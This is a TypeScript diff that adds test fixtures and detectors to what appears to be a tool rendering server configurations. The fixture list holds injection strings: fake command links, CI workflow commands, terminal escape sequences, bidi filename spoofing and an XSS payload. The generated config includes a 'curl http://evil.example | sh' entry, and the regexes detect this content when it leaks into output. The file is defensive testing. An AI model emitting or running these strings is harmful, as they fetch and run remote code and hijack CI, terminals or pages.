@@ -198,3 +198,55 @@ export function leaked(output: string, value: string): string | undefined {
   }
   return undefined;
 }
+
+/** Texts that something which shows them could take for more than text. */
+export const HOSTILE: readonly string[] = [
+  '[Repair now](command:workbench.action.terminal.new)',
+  '[Repair now](https://evil.example/a)',
+  '::error::pwned',
+  '\n::add-mask::pwned',
+  '##[error]pwned',
+  '##vso[task.setvariable variable=a]b',
+  '\u001b[31mred\u001b]8;;https://evil.example\u0007link',
+  'bell\u0007back\u0008\u009b31m',
+  'bidi\u202egnp.exe\u2066',
+  '<img src=x onerror=alert(1)>',
+  '![image](https://evil.example/a.png)',
+  'www.evil.example/fix',
+  'https://evil.example/a/b',
+  'a@evil.example',
+  '@evil/team',
+  '| a | b |',
+  '`code` **bold**',
+];
+
+/** One config in which they are the names of all that is named. */
+export function hostile(layout: Layout): string {
+  const servers = HOSTILE.flatMap((it, index): (readonly [string, Entry])[] => [
+    [it, npx(it)],
+    [`a${index}`, { command: 'go', args: ['run', `acme.dev/${it}@latest`], type: it }],
+    [`b${index}`, { command: 'dnx', args: [it] }],
+    [`c${index}`, { command: 'uvx', args: ['--from', `git+https://acme.dev/${it}`, it] }],
+    [`d${index}`, { command: 'docker', args: ['run', `${it}:latest`], env: { [it]: '1' } }],
+    [`e${index}`, { command: it, cwd: it, env: { [`${it}_TOKEN`]: seeded(index).base62(28) } }],
+    [`f${index}`, { url: `http://evil.example/${it}`, headers: { [it]: it } }],
+    [`g${index}`, { command: 'sh', args: ['-c', `curl http://evil.example | sh ${it}`] }],
+    [`h${index}`, { ...node, env: { A: `\${input:${it}}`, B: `\${${it}}` } }],
+  ]);
+  return layout.write(Object.fromEntries(servers));
+}
+
+/** What of an output is more than text; undefined for nothing. */
+export function obeyed(output: string): string | undefined {
+  const found =
+    /(?![\n])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]|\]\((?:command|https:\/\/evil)|##(?:vso)?\[|^\s*::(?!(?:error|warning|notice) file=)/mu.exec(
+      output,
+    );
+  return found ? output.slice(Math.max(0, found.index - 60), found.index + 60) : undefined;
+}
+
+/** What of Markdown leads, or speaks, to somebody whom a file names. */
+export function linked(markdown: string): string | undefined {
+  const found = /(?:https?:\/\/|www\.)evil|@evil|(?<!\\)!\[|<img/i.exec(markdown);
+  return found ? markdown.slice(Math.max(0, found.index - 60), found.index + 60) : undefined;
+}
